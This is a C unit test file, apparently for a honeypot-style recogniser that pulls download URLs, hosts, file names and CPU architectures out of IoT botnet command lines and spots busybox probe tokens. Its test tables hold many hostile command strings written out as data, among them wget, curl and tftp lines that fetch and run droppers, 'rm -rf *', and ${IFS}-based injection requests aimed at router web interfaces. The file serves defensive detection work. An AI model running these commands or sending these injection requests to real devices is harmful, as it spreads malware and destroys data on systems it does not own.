/* What a line wants to fetch, by the forms that bots write (facts 3). */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdio.h>
#include <string.h>

#include <cmocka.h>

#include "recognise/download.h"

static unsigned find(const char *text, struct download downloads[DOWNLOAD_LIMIT])
{
    return download_find((const uint8_t *)text, (uint32_t)strlen(text), downloads);
}

struct expected {
    const char *text, *method, *url, *host, *file, *cpu;
};

static const struct expected table[] = {
    {"wget http://192.0.2.9/bins/x.arm7", "wget", "http://192.0.2.9/bins/x.arm7", "192.0.2.9",
     "x.arm7", "arm7"},
    {"/bin/busybox wget http://192.0.2.9:8080/bins/mirai.mips -O - > dvrHelper", "wget",
     "http://192.0.2.9:8080/bins/mirai.mips", "192.0.2.9", "mirai.mips", "mips"},
    {"cd /tmp || cd /var/run; wget -q -O /tmp/x https://192.0.2.9/x86_64; chmod 777 x", "wget",
     "https://192.0.2.9/x86_64", "192.0.2.9", "x86_64", "x86_64"},
    {"wget 192.0.2.9/mpsl", "wget", "http://192.0.2.9/mpsl", "192.0.2.9", "mpsl", "mpsl"},
    {"wget -O- example.org/a.sh | sh", "wget", "http://example.org/a.sh", "example.org", "a.sh",
     ""},
    {"wget http://YOURIPHERE/bins.sh", "wget", "http://YOURIPHERE/bins.sh", "YOURIPHERE", "bins.sh",
     ""},
    {"wget YOURIPHERE/le.bot.arm7", "wget", "http://YOURIPHERE/le.bot.arm7", "YOURIPHERE",
     "le.bot.arm7", "arm7"},
    {"wget http://[2001:db8::9]:81/viktor.mips", "wget", "http://[2001:db8::9]:81/viktor.mips",
     "[2001:db8::9]", "viktor.mips", "mips"},
    {"wget ftp://user:word@192.0.2.9/a/b?c=/d", "wget", "ftp://user:word@192.0.2.9/a/b?c=/d",
     "192.0.2.9", "b", ""},
    {"wget http://192.0.2.9", "wget", "http://192.0.2.9", "192.0.2.9", "", ""},
    {"sh -c \"wget 'http://192.0.2.9/i686'\"", "wget", "http://192.0.2.9/i686", "192.0.2.9", "i686",
     "x86"},
    {"wget${IFS}http://192.0.2.9/a.sh4", "wget", "http://192.0.2.9/a.sh4", "192.0.2.9", "a.sh4",
     "sh4"},
    {"wget$IFS$9http://192.0.2.9/a", "wget", "http://192.0.2.9/a", "192.0.2.9", "a", ""},
    {"GET /language/Swedish${IFS}&&cd${IFS}/tmp;rm${IFS}-rf${IFS}*;wget$IFShttp://192.0.2.9/z.ppc;"
     "sh${IFS}z&>r&&tar${IFS}/string.js HTTP/1.0",
     "wget", "http://192.0.2.9/z.ppc", "192.0.2.9", "z.ppc", "ppc"},
    {"GET /shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.9/jaws;sh+/tmp/jaws HTTP/1.1", "wget",
     "http://192.0.2.9/jaws", "192.0.2.9", "jaws", ""},
    {"GET /setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=wget%20http://192.0.2.9/Mozi.m%20-O%20x"
     "%3Bsh%20x HTTP/1.0",
     "wget", "http://192.0.2.9/Mozi.m", "192.0.2.9", "Mozi.m", ""},
    {"<NewStatusURL>$(/bin/busybox wget -g 192.0.2.9 -l /tmp/binary -r /mips; sh)</NewStatusURL>",
     "wget", "http://192.0.2.9/mips", "192.0.2.9", "mips", "mips"},
    {"XWebPageName=diag&dest_host=`busybox+wget+http://192.0.2.9/gpon+-O+/tmp/gaf`;sh", "wget",
     "http://192.0.2.9/gpon", "192.0.2.9", "gpon", ""},
    {"echo \\x77get; \\x77\\x67\\x65\\x74 http://192.0.2.9/a.spc", "wget", "http://192.0.2.9/a.spc",
     "192.0.2.9", "a.spc", "spc"},
    {"curl -O http://192.0.2.9/arm", "curl", "http://192.0.2.9/arm", "192.0.2.9", "arm", "arm"},
    {"curl -s -o /tmp/a http://192.0.2.9/b.m68k && sh /tmp/a", "curl", "http://192.0.2.9/b.m68k",
     "192.0.2.9", "b.m68k", "m68k"},
    {"tftp -g -l dvrHelper -r mirai.arm5n 192.0.2.9", "tftp", "tftp://192.0.2.9/mirai.arm5n",
     "192.0.2.9", "mirai.arm5n", "arm5"},
    {"tftp -r a.mpsl -g 192.0.2.9; sh", "tftp", "tftp://192.0.2.9/a.mpsl", "192.0.2.9", "a.mpsl",
     "mpsl"},
    {"tftp 192.0.2.9 -c get tftp1.sh", "tftp", "tftp://192.0.2.9/tftp1.sh", "192.0.2.9", "tftp1.sh",
     ""},
    {"/bin/busybox tftp -g -r x 192.0.2.9 6969", "tftp", "tftp://192.0.2.9:6969/x", "192.0.2.9",
     "x", ""},
    {"ftpget -v -u anonymous -p anonymous -P 21 192.0.2.9 ftp1.sh ftp1.sh", "ftpget",
     "ftp://192.0.2.9:21/ftp1.sh", "192.0.2.9", "ftp1.sh", ""},
    {"ftpget 192.0.2.9 local /dir/remote.arm6", "ftpget", "ftp://192.0.2.9/dir/remote.arm6",
     "192.0.2.9", "remote.arm6", "arm6"},
    {"echo -ne '\\x7f\\x45\\x4c\\x46\\x01\\x01\\x01\\x61\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00"
     "\\x02' >> /tmp/upnp.arm; /bin/busybox ECCHI",
     "echo", "", "", "upnp.arm", "arm"},
    {"echo -en \"\\0177\\0105\\0114\\0106\\01\\01\\01\\01\\0\\0\\0\\0\\0\\0\\0\\0\" >.s", "echo",
     "", "", ".s", ""},
};

static void each_form_is_found(void **state)
{
    (void)state;
    for (size_t i = 0; i < sizeof table / sizeof table[0]; i++) {
        struct download d[DOWNLOAD_LIMIT];
        const struct expected *e = &table[i];
        unsigned count = find(e->text, d);
        if (count != 1)
            fail_msg("%u downloads in: %s", count, e->text);
        assert_string_equal(download_method_words[d[0].method], e->method);
        assert_string_equal(d[0].url, e->url);
        assert_string_equal(d[0].host, e->host);
        assert_string_equal(d[0].file, e->file);
        assert_string_equal(d[0].cpu, e->cpu);
    }
}

static void what_fetches_nothing_is_no_download(void **state)
{
    (void)state;
    static const char *const texts[] = {
        "",
        "wget",
        "/bin/busybox wget; /bin/busybox tftp; /bin/busybox ECCHI",
        "wget -h",
        "wget;http://192.0.2.9/x",
        "http://192.0.2.9/wget",
        "wgets http://192.0.2.9/x",
        "wget /tmp/x",
        "tftp 192.0.2.9",
        "ftpget 192.0.2.9",
        "curl",
        "echo -ne '\\x6b\\x61\\x6d\\x69/dev' > /dev/.nippon; cat /dev/.nippon",
        "echo -ne '\\x7f\\105\\114\\106\\1\\1\\1\\1\\0\\0\\0\\0\\0\\0\\0\\0'",
        "GET /wget/index.html HTTP/1.1",
        "wget http://",
        "wget http:///x",
    };
    struct download d[DOWNLOAD_LIMIT];
    for (size_t i = 0; i < sizeof texts / sizeof texts[0]; i++)
        if (find(texts[i], d) != 0)
            fail_msg("'%s' is in: %s", d[0].url, texts[i]);
}

static void chain_of_ways_is_found_in_its_order(void **state)
{
    (void)state;
    struct download d[DOWNLOAD_LIMIT];
    assert_int_equal(
        find(
            "cd /tmp; wget http://192.0.2.9/a.sh || curl -O http://192.0.2.9/b.sh; chmod 777 b.sh; "
            "tftp 192.0.2.9 -c get c.sh; tftp -r d.sh -g 192.0.2.9; "
            "ftpget -v -u anonymous -p anonymous -P 21 192.0.2.9 e.sh e.sh; rm -rf *",
            d),
        5);
    assert_string_equal(d[0].file, "a.sh");
    assert_string_equal(d[1].file, "b.sh");
    assert_string_equal(d[2].file, "c.sh");
    assert_string_equal(d[3].file, "d.sh");
    assert_string_equal(d[4].file, "e.sh");
}

static void number_and_length_are_bounded(void **state)
{
    (void)state;
    static char text[20000];
    struct download d[DOWNLOAD_LIMIT];
    for (int i = 0; i < 400; i++)
        sprintf(text + strlen(text), "wget http://192.0.2.9/%04d;", i);
    assert_int_equal(find(text, d), DOWNLOAD_LIMIT);
    assert_string_equal(d[DOWNLOAD_LIMIT - 1].file, "0015");

    memset(text, 'x', sizeof text - 1);
    memcpy(text, "wget http://192.0.2.9/", 22);
    memcpy(text + 4000, ";wget http://192.0.2.9/y", 25);
    assert_int_equal(find(text, d), 1);
    assert_string_equal(d[0].file, "y");

    memset(text, ' ', sizeof text - 1);
    memcpy(text + DOWNLOAD_TEXT_BYTES, "wget http://192.0.2.9/y", 24);
    assert_int_equal(find(text, d), 0);
}

static void token_is_a_word_that_busybox_does_not_know(void **state)
{
    (void)state;
    static const struct {
        const char *text, *token;
    } tokens[] = {
        {"/bin/busybox MIRAI", "MIRAI"},
        {"/bin/busybox ps; /bin/busybox ECCHI", "ECCHI"},
        {"cat /proc/mounts && /bin/busybox ZORRO\r\n", "ZORRO"},
        {"busybox IZ1H9", "IZ1H9"},
        {"/bin/busybox${IFS}SORA", "SORA"},
        {"(cat .s || cp /bin/echo .s); /bin/busybox PEGOK", "PEGOK"},
        {"/bin/busybox cat /proc/self/exe", NULL},
        {"/bin/busybox wget http://192.0.2.9/x", NULL},
        {"/bin/busybox", NULL},
        {"/bin/busybox ab", NULL},
        {"/bin/busybox ABCDEFGHIJKLMNOP", "ABCDEFGHIJKLMNOP"},
        {"/bin/busybox ABCDEFGHIJKLMNOPQ", NULL},
        {"/bin/busybox A-B-C", NULL},
        {"notbusybox MIRAI", NULL},
        {"MIRAI", NULL},
    };
    for (size_t i = 0; i < sizeof tokens / sizeof tokens[0]; i++) {
        char token[TOKEN_BYTES] = "unset";
        const char *text = tokens[i].text;
        bool found = busybox_token((const uint8_t *)text, (uint32_t)strlen(text), token);
        if (found != (tokens[i].token != NULL))
            fail_msg("'%s' in: %s", token, text);
        if (found)
            assert_string_equal(token, tokens[i].token);
    }
}

/* Also holds the list to be sorted: each of its parts has to be found. */
static void applets_are_known(void **state)
{
    (void)state;
    static const char *const names[] = {"[",    "acpid",   "ash",     "cat",   "chmod", "cp",  "dd",
                                        "echo", "httpd",   "killall", "mkdir", "ps",    "rm",  "sh",
                                        "tftp", "telnetd", "udhcpc",  "wget",  "xargs", "zcip"};
    for (size_t i = 0; i < sizeof names / sizeof names[0]; i++)
        if (!busybox_has_applet(names[i], strlen(names[i])))
            fail_msg("%s", names[i]);
    assert_false(busybox_has_applet("CAT", 3));
    assert_false(busybox_has_applet("ca", 2));
    assert_false(busybox_has_applet("", 0));
    assert_false(busybox_has_applet("cat\0x", 5));
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(each_form_is_found),
        cmocka_unit_test(what_fetches_nothing_is_no_download),
        cmocka_unit_test(chain_of_ways_is_found_in_its_order),
        cmocka_unit_test(number_and_length_are_bounded),
        cmocka_unit_test(token_is_a_word_that_busybox_does_not_know),
        cmocka_unit_test(applets_are_known),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
